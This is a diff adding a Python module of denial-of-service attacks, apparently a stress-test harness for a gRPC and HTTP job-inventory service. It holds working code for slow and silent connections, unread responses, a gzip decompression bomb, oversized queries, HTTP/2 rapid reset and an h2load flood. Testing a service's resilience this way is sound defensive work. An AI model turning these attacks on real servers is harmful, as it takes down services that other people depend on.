@@ -1,0 +1,279 @@
+"""The attacks: each goes on in a process of its own until it is to stop."""
+
+from __future__ import annotations
+
+import gzip
+import http.client
+import json
+import shutil
+import socket
+import struct
+import subprocess
+import threading
+from collections import Counter
+from collections.abc import Callable, Mapping
+from contextlib import ExitStack, suppress
+from dataclasses import dataclass
+from pathlib import Path
+from tempfile import TemporaryDirectory
+from typing import Any, Protocol, TypeAlias
+
+import grpc
+from google.protobuf import json_format
+from google.protobuf.message import Message
+from loading.callers import SERVICE
+
+from attacking.frames import RawConnection, call_headers
+from inventory_job.stubs.spaceone.api.core.v2.query_pb2 import Filter, Query
+from inventory_job.stubs.spaceone.api.inventory.v1 import job_pb2
+from tests.silence import silent_calls
+
+_REQUESTS: Mapping[str, type[Message]] = {
+    "list": job_pb2.JobsQuery,
+    "analyze": job_pb2.JobAnalyzeQuery,
+    "stat": job_pb2.JobStatQuery,
+}
+_OWN_CONNECTION = [("grpc.use_local_subchannel_pool", 1)]
+_PAUSE_SECONDS = 0.05
+_STATIC_FILE = "/docs/swagger-ui-bundle.js"
+
+
+class Signal(Protocol):
+    """What ends an attack: an Event of threads or processes."""
+
+    def is_set(self) -> bool:
+        """Whether it has come."""
+
+    def wait(self, timeout: float) -> bool:
+        """Waits for it at most so long; whether it has come."""
+
+
+@dataclass(frozen=True, slots=True)
+class Target:
+    """Where the server is, and the attacker's metadata; those of a stranger are none."""
+
+    address: str
+    http_address: str
+    metadata: tuple[tuple[str, str], ...]
+
+
+Attack: TypeAlias = Callable[[Target, Signal], "dict[str, int]"]
+"""Goes on until the signal; gives how often what came of it."""
+
+
+def silent_streams(
+    count: int, connections: int, methods: tuple[str, ...], *, is_stranger: bool
+) -> Attack:
+    """Calls that send their headers and nothing else."""
+
+    def attack(target: Target, stop: Signal) -> dict[str, int]:
+        metadata = () if is_stranger else target.metadata
+        with ExitStack() as opened:
+            for _ in range(connections):
+                channel = opened.enter_context(
+                    grpc.insecure_channel(target.address, _OWN_CONNECTION)
+                )
+                share = count // connections // len(methods)
+                for method in methods:
+                    opened.enter_context(silent_calls(channel, method, share, metadata))
+            _await(stop)
+        return {"streams": count}
+
+    return attack
+
+
+def queries(method: str, query: dict[str, Any], callers: int) -> Attack:
+    """The same query again and again, by so many callers."""
+    return calls(method, json_format.ParseDict({"query": query}, _REQUESTS[method]()), callers)
+
+
+def calls(method: str, request: Message, callers: int) -> Attack:
+    """The same call again and again, by so many callers, each on a connection of its own."""
+    content = request.SerializeToString()
+
+    def attack(target: Target, stop: Signal) -> dict[str, int]:
+        found: Counter[str] = Counter()
+
+        def go_on() -> None:
+            with grpc.insecure_channel(target.address, _OWN_CONNECTION) as channel:
+                call: Any = channel.unary_unary(f"/{SERVICE}/{method}")
+                while not stop.is_set():
+                    future = call.future(content, metadata=target.metadata, timeout=30)
+                    while not future.done() and not stop.is_set():
+                        _ended_within(future, _PAUSE_SECONDS)
+                    future.cancel()
+                    code = future.code()
+                    found[code.name] += 1
+                    if code is not grpc.StatusCode.OK:
+                        stop.wait(_PAUSE_SECONDS)
+
+        _all(go_on, callers)
+        return dict(found)
+
+    return attack
+
+
+def _ended_within(future: Any, seconds: float) -> None:
+    try:
+        future.exception(timeout=seconds)
+    except (grpc.FutureTimeoutError, grpc.FutureCancelledError):
+        return
+
+
+def many_conditions() -> Message:
+    """A request of a million empty conditions, 2 MB."""
+    return job_pb2.JobsQuery(query=Query(filter=[Filter()] * 1_000_000))
+
+
+def posts(path: str, body: Callable[[], bytes], headers: Mapping[str, str], callers: int) -> Attack:
+    """The same request over HTTP again and again, by so many callers."""
+
+    def attack(target: Target, stop: Signal) -> dict[str, int]:
+        found: Counter[str] = Counter()
+        content = body()
+        given = {"content-type": "application/json", **dict(target.metadata), **headers}
+
+        def go_on() -> None:
+            while not stop.is_set():
+                connection = http.client.HTTPConnection(target.http_address, timeout=30)
+                try:
+                    connection.request("POST", path, content, given)
+                    found[str(connection.getresponse().status)] += 1
+                except OSError as error:
+                    found[type(error).__name__] += 1
+                finally:
+                    connection.close()
+
+        _all(go_on, callers)
+        return dict(found)
+
+    return attack
+
+
+def zipped_conditions() -> bytes:
+    """3 MB of a million empty conditions, as 3 kB."""
+    return gzip.compress(b'{"query":{"filter":[' + b"{}," * 999_999 + b"{}]}}", 9)
+
+
+def many_names() -> bytes:
+    """An object of 380 000 names, one of them twice."""
+    names = [f'"{number:x}":0' for number in [*range(380_000), 0]]
+    return ('{"query":{' + ",".join(names) + "}}").encode()
+
+
+def unread(count: int, method: str, path: str, query: Any = None) -> Attack:
+    """Requests over HTTP by so many connections, whose answers are not read."""
+
+    def attack(target: Target, stop: Signal) -> dict[str, int]:
+        host, _, port = target.http_address.rpartition(":")
+        body = b"" if query is None else json.dumps({"query": query}).encode()
+        head = [f"{method} {path} HTTP/1.1", f"host: {target.http_address}"]
+        head += [f"{name}: {value}" for name, value in target.metadata]
+        head += ["content-type: application/json", f"content-length: {len(body)}", "", ""]
+        with ExitStack() as opened:
+            for _ in range(count):
+                connection = opened.enter_context(socket.socket())
+                connection.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
+                connection.settimeout(10)
+                try:
+                    connection.connect((host, int(port)))
+                    connection.sendall("\r\n".join(head).encode() + body)
+                except OSError:
+                    continue
+            _await(stop)
+        return {"connections": count}
+
+    return attack
+
+
+def unread_files(count: int) -> Attack:
+    """A large file for each of so many connections, without a token."""
+    return unread(count, "GET", _STATIC_FILE)
+
+
+def silent_connections(count: int) -> Attack:
+    """Connections to both ports that send nothing."""
+
+    def attack(target: Target, stop: Signal) -> dict[str, int]:
+        opened: Counter[str] = Counter()
+        with ExitStack() as connections:
+            for address in (target.address, target.http_address):
+                host, _, port = address.rpartition(":")
+                for _ in range(count):
+                    try:
+                        connection = socket.create_connection((host, int(port)), timeout=1)
+                    except OSError:
+                        opened["refused"] += 1
+                        continue
+                    connections.enter_context(connection)
+                    opened["opened"] += 1
+                    if stop.is_set():
+                        return dict(opened)
+            _await(stop)
+        return dict(opened)
+
+    return attack
+
+
+def resets(connections: int) -> Attack:
+    """Rapid reset: streams that are opened and reset at once, without a token."""
+
+    def attack(target: Target, stop: Signal) -> dict[str, int]:
+        found: Counter[str] = Counter()
+        headers = call_headers(target.address, f"/{SERVICE}/get")
+
+        def go_on() -> None:
+            while not stop.is_set():
+                with suppress(OSError), RawConnection(target.address) as connection:
+                    found["connections"] += 1
+                    while not stop.is_set():
+                        connection.open_and_reset(headers, 50)
+                        found["resets"] += 50
+
+        _all(go_on, connections)
+        return dict(found)
+
+    return attack
+
+
+def flood(padding: int = 0) -> Attack:
+    """Calls without a token, as fast as another program (h2load) makes them; with so many bytes
+    of metadata. Raises RuntimeError when there is no such program."""
+
+    def attack(target: Target, stop: Signal) -> dict[str, int]:
+        program = shutil.which("h2load")
+        if program is None:
+            raise RuntimeError("h2load is needed (Debian: nghttp2-client)")
+        with TemporaryDirectory() as directory:
+            body = Path(directory) / "body"
+            body.write_bytes(struct.pack(">BI", 0, 0))
+            command = [program, f"--data={body}", "--header=te: trailers", "--clients=4"]
+            command += ["--header=content-type: application/grpc", "--max-concurrent-streams=50"]
+            command += [
+                "--requests=100000000",
+                *([f"--header=x-pad: {'x' * padding}"] * (padding > 0)),
+            ]
+            process = subprocess.Popen(
+                [*command, f"http://{target.address}/{SERVICE}/get"], stdout=subprocess.DEVNULL
+            )
+            try:
+                _await(stop)
+            finally:
+                process.kill()
+                process.wait()
+        return {}
+
+    return attack
+
+
+def _await(stop: Signal) -> None:
+    while not stop.wait(1.0):
+        pass
+
+
+def _all(work: Callable[[], None], count: int) -> None:
+    threads = [threading.Thread(target=work, daemon=True) for _ in range(count)]
+    for thread in threads:
+        thread.start()
+    for thread in threads:
+        thread.join()
